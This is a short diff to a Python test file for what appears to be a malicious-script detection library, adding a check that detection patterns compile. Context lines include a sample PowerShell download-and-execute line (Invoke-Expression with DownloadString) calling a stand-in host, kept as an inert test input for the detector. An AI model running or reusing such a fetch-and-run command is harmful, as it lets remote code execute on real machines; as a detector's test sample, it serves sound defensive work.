@@ -16,6 +16,7 @@ from commodore.readers.layers import as_text, driver, indicated, model, traits, 
 from commodore.readers.layers.analysis import analysed
 from commodore.readers.layers.languages import language_of, languages
 from commodore.readers.layers.texts import decoded
+from scout.bounded import pattern_error
 
 PLAIN = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://stage.example.invalid/a.txt') # inert"
 
@@ -228,6 +229,7 @@ def test_traits_and_languages_are_sound():
     spoken = {language for trait in traits.traits() for language in trait.languages}
     assert spoken <= {*languages(), "command", "vba"}
     assert len({trait.group for trait in traits.traits()}) >= 5
+    assert not [trait.id for trait in traits.traits() if pattern_error(trait.pattern)], "a run compiles a pattern when a text has its words"
 
 
 @pytest.mark.parametrize(
